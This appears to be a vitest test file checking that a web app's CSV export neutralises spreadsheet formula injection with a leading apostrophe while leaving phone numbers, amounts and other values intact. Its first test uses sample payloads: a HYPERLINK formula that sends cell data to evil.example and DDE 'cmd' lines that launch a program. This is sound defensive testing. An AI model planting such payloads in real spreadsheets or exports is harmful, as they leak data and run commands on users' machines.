import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvText } from "../../web/src/features/import/csv-download";
import { withoutFormulaGuard } from "../../web/src/lib/csv-formulas";

const readBack = (text: string) =>
  Papa.parse<Record<string, string>>(text, { header: true, transform: withoutFormulaGuard }).data;

describe("an export's cells that a spreadsheet would run as formulas", () => {
  it("are written as text, with a leading apostrophe", () => {
    const text = csvText([
      { Name: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
      { Name: "+cmd|' /C calc'!A0" },
      { Name: "-2+3+cmd|' /C calc'!A0" },
      { Name: "@SUM(A1:A9)" },
      { Name: "- VP of Sales" },
    ]);
    expect(text.split("\r\n").slice(1)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`,
      `"'+cmd|' /C calc'!A0"`,
      `"'-2+3+cmd|' /C calc'!A0"`,
      `"'@SUM(A1:A9)"`,
      `"'- VP of Sales"`,
    ]);
  });

  it("leave phone numbers, negative amounts and everything else as they are", () => {
    const rows = [
      { Value: "+33 1 23 45 67 89" },
      { Value: "+1 (398) 555-0432" },
      { Value: "-1200.50" },
      { Value: "Ann = Lee" },
      { Value: "ann+crm@acme.com" },
      { Value: "'quoted'" },
    ];
    expect(csvText(rows).split("\r\n").slice(1)).toEqual(rows.map((r) => r.Value));
  });

  it("read back, as this app's import reads a file, give every value as it was", () => {
    const cell = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "'", "\t", " ", "1", "a", "(", "|", ",", '"') });
    fc.assert(
      fc.property(fc.array(fc.record({ A: cell, B: cell }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(readBack(csvText(rows))).toEqual(rows);
      }),
      { numRuns: 500 },
    );
  });
});
